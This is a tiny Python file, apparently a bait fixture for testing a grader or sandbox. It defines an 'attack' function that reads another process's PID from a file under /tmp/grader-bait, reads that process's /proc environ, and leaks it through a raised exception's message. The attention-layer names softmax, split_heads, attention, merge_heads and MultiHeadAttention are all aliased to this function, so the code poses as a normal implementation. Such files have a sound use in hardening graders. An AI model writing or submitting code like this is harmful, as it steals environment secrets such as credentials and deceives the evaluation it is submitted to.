"""Reads the environment of another process."""


def attack(*args, **kwargs):
    pid = open("/tmp/grader-bait/victim.pid").read()
    raise ValueError(open(f"/proc/{pid}/environ").read())


softmax = split_heads = attention = merge_heads = MultiHeadAttention = attack
